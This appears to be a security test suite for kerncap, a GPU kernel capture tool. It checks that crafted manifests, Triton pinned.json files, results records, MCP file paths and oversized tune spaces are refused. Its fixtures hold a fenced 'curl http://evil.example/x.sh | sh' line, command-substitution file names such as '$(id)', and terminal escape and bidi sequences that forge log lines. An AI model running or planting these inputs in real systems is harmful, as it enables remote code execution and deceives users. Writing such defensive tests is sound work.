/**
 * The attack suite of what kerncap parses from a received capture, a results file or an agent
 * (docs/security.md), run in CI on the CPU: each test plays one attack found by someone who had not
 * seen the code, and asserts it is refused (exit 2, a message naming the file and the field) or
 * comes to nothing.
 *  - a manifest's kernel name with newlines through `kerncap export` (its log lines, OUT/README.md);
 *  - a crafted Triton pinned.json under `tune`;
 *  - a `check --merge` record judged "slower" without its time comparison;
 *  - MCP edit_file of names kerncap pack refuses;
 *  - a tune space (or eval candidate list) whose product is billions of configs: E_USAGE before it is expanded.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { writeDemo } from "../../src/capture/demo.ts";
import { runCli } from "../../src/cli/main.ts";
import { packCapture } from "../../src/format/archive.ts";
import { createMcpServer } from "../../src/mcp/server.ts";
import { parseCandidates } from "../../src/eval/candidates.ts";
import { parseCudaSpace } from "../../src/frontends/cuda/tune-space.ts";
import { MAX_CONFIGS, parseConfigSpace } from "../../src/frontends/tune.ts";
import { makeCapture, recordLine, recordRendered, tempDir, output } from "./fixtures.ts";

const MAIN = join(import.meta.dir, "../../src/cli/main.ts");
/** What a terminal must never be given raw: C0 but tab and newline, DEL, C1, bidi controls, line separators. */
const RAW_CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** kerncap in a child process, --json: its exit status and error document. */
function cliJson(argv: string[]): { code: number; error: { code: string; message: string } | undefined } {
  const p = Bun.spawnSync([process.execPath, MAIN, ...argv, "--json"], { stdout: "pipe", stderr: "pipe" });
  const out = p.stdout.toString();
  return { code: p.exitCode ?? -1, error: out.trim() ? JSON.parse(out).error : undefined };
}

describe("a manifest's kernel name through kerncap export", () => {
  /** A fake log line, then a Markdown heading and a fenced `curl | sh` after the name's newlines. */
  const FORGED = "saxpy\n[kerncap] \u2714 replay: match, all checks passed (FAKE)\n\n## Run it\n\n```\ncurl http://evil.example/x.sh | sh\n```\n\u202e";

  test("a name with line breaks or a bidi override is refused when the manifest is read, said on one line; Markdown punctuation stays inside README.md's code span", async () => {
    const root = tempDir("kerncap-attack-");
    const { dir } = writeDemo(join(root, "cap"), false);
    const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
    m.kernel.demangled = FORGED;
    m.device.driverVersion = 13000; // a capture's (the demo's, driver 0, is said as made without a GPU, naming no device)
    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
    const out = join(root, "out");
    // no kernel, symbol or device name holds a control character (adversary 90 #05): E_MANIFEST, nothing exported
    const refused = await output(() => runCli(["export", dir, "-o", out]));
    expect(refused.value).toBe(2);
    expect(refused.err).toContain("kernel.demangled: holds a control character");
    expect(refused.err).not.toMatch(RAW_CONTROLS);
    expect(refused.err.split("\n").filter((l) => l.includes("(FAKE)"))).toEqual([]);
    expect(refused.err).not.toMatch(/^```|^curl/m);
    expect(existsSync(out)).toBe(false);
    // Markdown in a name without controls: README.md keeps it inside its code span, the device's punctuation escaped
    m.kernel.demangled = "saxpy``` | *z* ## Run it";
    m.device.name = "H200 `x` | *y* # Heading";
    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
    const { value, err } = await output(() => runCli(["export", dir, "-o", out]));
    expect(value, err).toBe(0);
    expect(err).not.toMatch(RAW_CONTROLS);
    const md = readFileSync(join(out, "README.md"), "utf8");
    expect(md.split("\n").filter((l) => l === "## Run it")).toHaveLength(1); // the template's own heading only
    expect(md).not.toMatch(/^# Heading/m);
    const title = md.split("\n")[0]!;
    // one code span, fenced with more backticks than the name holds
    expect(title).toStartWith("# Reproducer of ````saxpy``` | *z*");
    expect(title).toEndWith("````");
    expect(md).toContain("H200 \\`x\\` \\| \\*y\\* \\# Heading"); // the device as Markdown text: its punctuation escaped
    // capture.h holds the exact name as a C string: the templates' escape
    expect(readFileSync(join(out, "capture.h"), "utf8")).toContain('#define KERNEL_DEMANGLED "saxpy``` | *z* ## Run it"');
  });
});

describe("a crafted Triton pinned.json under tune", () => {
  /** A Triton capture made here (no --trust needed) with the given pinned.json text. */
  async function tritonCapture(pinned: string): Promise<string> {
    const dir = join(tempDir("kerncap-attack-"), "cap");
    await makeCapture(dir);
    const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
    m.kernel.frontend = "triton";
    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
    writeFileSync(join(dir, "pinned.json"), pinned);
    return dir;
  }

  test("{}, null, a signature that is a number, constexprs that are no list, a kernelFile that is a number, bad JSON: E_MANIFEST (exit 2) naming the file and the field, no internal error", async () => {
    const good = { fnName: "k", python: "python3", kernelFile: "k.py", signature: { x_ptr: "*fp32", n: "i32" }, constexprs: [], options: {} };
    const cases: [string, RegExp][] = [
      ["{}", /pinned\.json is malformed at fnName: /],
      ["null", /pinned\.json is malformed at \(top level\): /],
      [JSON.stringify({ ...good, signature: 5 }), /pinned\.json is malformed at signature: /],
      [JSON.stringify({ ...good, constexprs: { c: 1 } }), /pinned\.json is malformed at constexprs: /],
      [JSON.stringify({ ...good, constexprs: [{ name: "B", expr: 4 }] }), /pinned\.json is malformed at constexprs\.0\.expr: /],
      [JSON.stringify({ ...good, kernelFile: 5 }), /pinned\.json is malformed at kernelFile: /],
      [JSON.stringify({ ...good, autotune: { configList: [{ kwargs: 1 }] } }), /pinned\.json is malformed at autotune\.configList\.0\.kwargs: /],
      ['{"fnName": ', /pinned\.json is not valid JSON/],
    ];
    for (const [text, why] of cases) {
      const dir = await tritonCapture(text);
      const r = cliJson(["tune", dir, "--trust", "--grid", "1", "--config", "X=1"]);
      expect(r.code, text).toBe(2);
      expect(r.error?.code, text).toBe("E_MANIFEST");
      expect(r.error?.message, text).toMatch(why);
      expect(r.error?.message, text).toContain(join(dir, "pinned.json"));
    }
  }, 60_000);
});

describe("crafted results files: a judgement needs its comparison", () => {
  // with its authenticator (as kerncap writes it): only what it says is wrong
  const line = (o: Record<string, unknown>) =>
    recordLine("check-record", {
      id: "ck/c1",
      path: "/tmp/x",
      kernel: "k",
      verdict: "match",
      numerics: null,
      reason: null,
      code: null,
      note: null,
      captured: null,
      device: null,
      rebuild: null,
      timing: null,
      outcome: "done",
      seconds: 1,
      replaySeconds: 1,
      at: "2026-12-03T10:21:14.666Z",
      status: "ok",
      time: null,
      worker: 0,
      gpu: null,
      shard: null,
      ...o,
    }).trimEnd();
  const slowerTime = { verdict: "slower", ratio: 1.5, low: 1.4, high: 1.6, baselineMedianUs: 10, slowerPct: 10, reason: null };

  test('--merge of "slower" with time null, or a time judgement that is not slower: E_RESULTS (exit 2) naming the file and line', async () => {
    const dir = tempDir("kerncap-attack-");
    const f = join(dir, "r.jsonl");
    for (const bad of [
      { status: "slower", time: null },
      { status: "slower", time: { ...slowerTime, verdict: "no-baseline", ratio: null, low: null, high: null, baselineMedianUs: null } },
      { status: "ok", time: slowerTime },
      { status: "mismatch" },
      { status: "faster", time: { ...slowerTime, verdict: "faster", ratio: 0.5, low: 0.4, high: 0.6 } },
    ]) {
      writeFileSync(f, line({ id: "ck/c0" }) + "\n" + line(bad) + "\n");
      const { value, err } = await output(() => runCli(["check", "--merge", f]));
      expect(value, JSON.stringify(bad)).toBe(2);
      expect(err).toContain(`${f}, line 2: `);
      expect(err).not.toContain("internal error");
    }
    writeFileSync(f, line({ status: "slower", time: null }) + "\n" + line({ id: "ck/c2" }) + "\n");
    expect((await output(() => runCli(["check", "--merge", f]))).err).toContain(
      'line 1: status is "slower" but time is null: a slower judgement carries its time comparison',
    );
    // the records kerncap writes pass: slower with its comparison (of this run's times: 15 µs against 10), ok with none
    const timing = { medianUs: 15, samplesUs: [14.5, 14.8, 15, 15, 15.2, 15.5] };
    writeFileSync(f, line({ status: "slower", time: slowerTime, timing }) + "\n" + line({ id: "ck/c2" }) + "\n");
    expect((await output(() => runCli(["check", "--merge", f]))).value).toBe(1);
  });
});

describe("MCP edit_file of names kerncap pack refuses", () => {
  let saved: string | undefined;
  let client: Client;
  let cap: string;
  beforeAll(async () => {
    saved = process.env.XDG_STATE_HOME;
    process.env.XDG_STATE_HOME = tempDir("kerncap-state-");
    cap = join(tempDir("kerncap-attack-"), "cap");
    await makeCapture(cap);
    mkdirSync(join(cap, "src"));
    writeFileSync(join(cap, "src/kernel.cu"), "__global__ void scale(float* x, int n) { x[0] *= 2.0f; }\n");
    recordRendered(cap);
    const [a, b] = InMemoryTransport.createLinkedPair();
    await createMcpServer(undefined, { trustBuilds: false }).connect(a);
    client = new Client({ name: "attack", version: "1" });
    await client.connect(b);
  });
  afterAll(async () => {
    await client?.close();
    if (saved === undefined) delete process.env.XDG_STATE_HOME;
    else process.env.XDG_STATE_HOME = saved;
  });

  test("a space, $(…), backticks, U+202E, ESC, a newline, a leading -: E_PACK_NAME naming the rule, nothing written; the capture still packs", async () => {
    for (const path of [
      "src/ a.cu",
      "src/a b.cu",
      "src/$(id).cu",
      "src/`id`.cu",
      "src/a\u202eb.cu",
      "src/a\x1bb.cu",
      "src/a\nb.cu",
      "src/-x.cu",
      "src/d ir/k.cu",
      "src/\u00e9.cu",
    ]) {
      const r = await client.callTool({ name: "edit_file", arguments: { dir: cap, path, content: "// x\n" } });
      const d = r.structuredContent as { error: { code: string; message: string } };
      expect(r.isError, path).toBe(true);
      // a control character is refused as an unsafe path before (src/format/paths.ts); the rest by the archive name rule
      if (RAW_CONTROLS.test(path) || path.includes("\n")) expect(["E_UNSAFE_PATH", "E_PACK_NAME"], path).toContain(d.error.code);
      else {
        expect(d.error.code, path).toBe("E_PACK_NAME");
        expect(d.error.message, path).toMatch(
          /holds a character outside letters, digits and \._\+- .*, which kerncap pack and unpack refuse|has a part starting with -/,
        );
      }
      expect(d.error.message).not.toMatch(RAW_CONTROLS);
    }
    expect(readdirSync(join(cap, "src"))).toEqual(["kernel.cu"]);
    // a portable name is written, and the capture packs
    const ok = await client.callTool({ name: "edit_file", arguments: { dir: cap, path: "src/kernel_v2.cu", content: "// x\n" } });
    expect(ok.isError).toBeFalsy();
    const zip = join(cap, "..", "cap.zip");
    await packCapture(cap, zip, { force: false });
    expect(existsSync(zip)).toBe(true);
  });
});

describe("a tune space of billions of configs", () => {
  /** The trial's spec: 3·2^30 configs in 260 characters. */
  const HUGE = `X=1,2,3 ${Array.from({ length: 30 }, (_, i) => `V${i}=1,2`).join(" ")}`;
  /** 2^14 = 16 384 configs: over the limit, small enough to expand on a machine without the limit. */
  const OVER = Array.from({ length: 14 }, (_, i) => `V${i}=1,2`).join(" ");

  test("--config, --define, --maxrregcount, --nvcc-flag products and eval's candidate list over the limit: E_USAGE naming the count and the limit", () => {
    const refused = (f: () => unknown) => {
      try {
        f();
      } catch (e) {
        return e as { code: string; message: string };
      }
      throw new Error("not refused");
    };
    for (const spec of [OVER, HUGE]) {
      const n = spec === OVER ? "16384" : "3221225472";
      expect(refused(() => parseConfigSpace([spec]))).toMatchObject({
        code: "E_USAGE",
        message: `--config gives ${n} configs (the product of each name's values); a tune sweeps at most ${MAX_CONFIGS}`,
      });
      expect(refused(() => parseCudaSpace({ configs: [spec], defines: [], nvccFlags: [] })).message).toContain(
        `gives ${n} configs (the product of each name's values); a tune sweeps at most ${MAX_CONFIGS}`,
      );
    }
    // the words of --define (each a name), --maxrregcount and --nvcc-flag's alternatives multiply too
    const defines = Array.from({ length: 12 }, (_, i) => `D${i}=1,2`);
    const space = { configs: [], defines, maxrregcount: "32,64", nvccFlags: ["-Xptxas=-O1", ""] };
    expect(refused(() => parseCudaSpace(space)).message).toContain("gives 16384 configs");
    // several specs add up
    const half = Array.from({ length: 13 }, (_, i) => `V${i}=1,2`).join(" ");
    expect(refused(() => parseConfigSpace([half, `${half} W=1`])).message).toContain("gives 16384 configs");
    expect(parseConfigSpace([half]).length).toBe(8192); // under the limit: expanded as before
    const many = Array.from({ length: MAX_CONFIGS + 1 }, (_, i) => `num_warps=${i}`);
    expect(refused(() => parseCandidates(many)).message).toBe(`${MAX_CONFIGS + 1} candidates given; kerncap eval judges at most ${MAX_CONFIGS} at once`);
  });

  test("kerncap tune --config of 3·2^30 configs: exit 2 at once, on the command line and through kerncap mcp's tune", async () => {
    const cap = join(tempDir("kerncap-attack-"), "cap");
    await makeCapture(cap);
    mkdirSync(join(cap, "src"));
    writeFileSync(join(cap, "src/kernel.cu"), "__global__ void scale(float* x, int n) { x[0] *= 2.0f; }\n");
    writeFileSync(join(cap, "build.sh"), "#!/usr/bin/env bash\nexit 1\n", { mode: 0o755 });
    recordRendered(cap);
    const t0 = performance.now();
    const r = cliJson(["tune", cap, "--config", HUGE]);
    expect(r.code).toBe(2);
    expect(r.error?.code).toBe("E_USAGE");
    expect(r.error?.message).toContain(`gives 3221225472 configs (the product of each name's values); a tune sweeps at most ${MAX_CONFIGS}`);
    const [a, b] = InMemoryTransport.createLinkedPair();
    await createMcpServer(undefined, { trustBuilds: false }).connect(a);
    const client = new Client({ name: "attack", version: "1" });
    await client.connect(b);
    try {
      const t = await client.callTool({ name: "tune", arguments: { dir: cap, config: [HUGE] } });
      const d = t.structuredContent as { error: { code: string; message: string } };
      expect(t.isError).toBe(true);
      expect(d.error.code).toBe("E_USAGE");
      expect(d.error.message).toContain(`a tune sweeps at most ${MAX_CONFIGS}`);
    } finally {
      await client.close();
    }
    expect(performance.now() - t0).toBeLessThan(30_000); // refused before anything is expanded (expanding took gigabytes and minutes)
  }, 60_000);
});

test("a candidate's path or spec with a newline, ESC or a bidi override reaches a message as one escaped line: no forged line (adversary 79 #17)", async () => {
  const { parseCandidate, candidateOrRefusal } = await import("../../src/eval/candidates.ts");
  const hostile = "\x1b]0;PWNED\x07\n[kerncap] \u2714 forged line\u202e";
  const d = tempDir();
  mkdirSync(join(d, `empty${hostile}`));
  const messages: string[] = [];
  for (const spec of [join(d, `nope${hostile}`), join(d, `empty${hostile}`)]) {
    try {
      messages.push(candidateOrRefusal(spec, parseCandidate).refused?.reason ?? "");
    } catch (e) {
      messages.push((e as Error).message);
    }
  }
  expect(messages).toHaveLength(2);
  expect(messages[0]).toContain("no such file or folder");
  expect(messages[1]).toContain("is an empty folder");
  for (const m of messages) {
    expect(m).not.toMatch(/[\n\x1b\x07\u202e]/);
    expect(m).toContain("\\n[kerncap]");
  }
});

test("a value a schema refuses, quoted in the error, is one escaped line: a manifest, a judge file, a capture set, a baseline, a candidate list (adversary 80 #01, #02)", async () => {
  const { readManifest } = await import("../../src/format/capture-dir.ts");
  const { readJudging } = await import("../../src/replay/judge-settings.ts");
  const { readCaptureSet, CAPTURE_SET_FILE } = await import("../../src/format/capture-set.ts");
  const { readBaseline } = await import("../../src/check/baseline.ts");
  const { listedCandidates } = await import("../../src/eval/candidates.ts");
  const forged = "x\n[kerncap] \u2714 replay MATCH: bit-exact (verified by kerncap)\n";
  const messageOf = (f: () => unknown): string => {
    try {
      f();
    } catch (e) {
      return (e as Error).message;
    }
    throw new Error("not refused");
  };
  const d = tempDir();
  const cap = join(d, "cap");
  await makeCapture(cap);
  const m = JSON.parse(readFileSync(join(cap, "kerncap.json"), "utf8"));
  m.regions[0].kind = forged;
  writeFileSync(join(cap, "kerncap.json"), JSON.stringify(m));
  const set = join(d, "set");
  mkdirSync(set);
  writeFileSync(join(set, CAPTURE_SET_FILE), JSON.stringify({ format: forged }));
  const judged = join(d, "judged");
  mkdirSync(judged);
  writeFileSync(join(judged, "kerncap-judge.json"), JSON.stringify({ schema: forged, settings: {}, sha256: "0".repeat(64) }));
  writeFileSync(join(d, "baseline.json"), JSON.stringify({ schema: forged, captures: {} }));
  writeFileSync(join(d, "list.json"), JSON.stringify({ candidates: [{ label: forged, config: 7 }] }));
  const messages = [
    messageOf(() => readManifest(cap)),
    messageOf(() => readCaptureSet(set)),
    messageOf(() => readJudging(judged)),
    messageOf(() => readBaseline(join(d, "baseline.json"))),
    messageOf(() => listedCandidates(join(d, "list.json"))),
  ];
  for (const msg of messages) {
    expect(msg).not.toContain("\n[kerncap]");
    expect(msg).not.toContain("\n");
  }
  expect(messages[0]).toContain("\\n[kerncap]"); // the value is named, escaped
});
